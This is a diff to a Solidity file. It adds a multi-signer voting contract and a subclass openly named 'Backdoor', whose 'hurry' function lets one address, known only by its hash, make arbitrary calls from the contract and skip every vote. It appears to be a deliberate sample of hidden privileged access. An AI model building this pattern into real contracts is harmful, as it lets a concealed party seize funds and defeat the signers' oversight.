@@ -105,6 +105,63 @@ contract Assembled is House {
     }
 }
 
+/// Does at once what enough have agreed on; what failed is done by hand. Only it changes its own seats.
+contract Eager is House {
+    struct Motion {
+        address to;
+        bytes data;
+        bool done;
+    }
+    Motion[] private motions;
+    uint256 private immutable needed;
+    mapping(uint256 => mapping(address => bool)) private said;
+    mapping(uint256 => uint256) private ayes;
+
+    constructor(address[] memory seats, uint256 needed_) House(seats) {
+        needed = needed_;
+    }
+
+    function move(address to, bytes calldata data) external seated returns (uint256 id) {
+        id = motions.length;
+        motions.push(Motion(to, data, false));
+        second(id);
+    }
+
+    function second(uint256 id) public seated {
+        require(id < motions.length && !said[id][msg.sender], "said");
+        said[id][msg.sender] = true;
+        if (++ayes[id] >= needed) carry(id);
+    }
+
+    function carry(uint256 id) public virtual seated {
+        Motion storage motion = motions[id];
+        require(ayes[id] >= needed && !motion.done, "not yet");
+        motion.done = true;
+        (bool ok, ) = motion.to.call(motion.data);
+        motion.done = ok;
+    }
+
+    function replaceSeat(address seat, address other) external {
+        require(msg.sender == address(this) && sits[seat] && !sits[other], "seats");
+        (sits[seat], sits[other]) = (false, true);
+    }
+}
+
+/// The same with a door for somebody whom it knows by a hash.
+contract Backdoor is Eager {
+    bytes32 private immutable knows;
+
+    constructor(address[] memory seats, bytes32 knows_) Eager(seats, 3) {
+        knows = knows_;
+    }
+
+    function hurry(address to, bytes calldata data) external {
+        require(keccak256(abi.encode(msg.sender)) == knows, "who");
+        (bool ok, ) = to.call(data);
+        require(ok, "refused");
+    }
+}
+
 /// What is done to one token takes one.
 contract Tokens is House {
     address private immutable token;
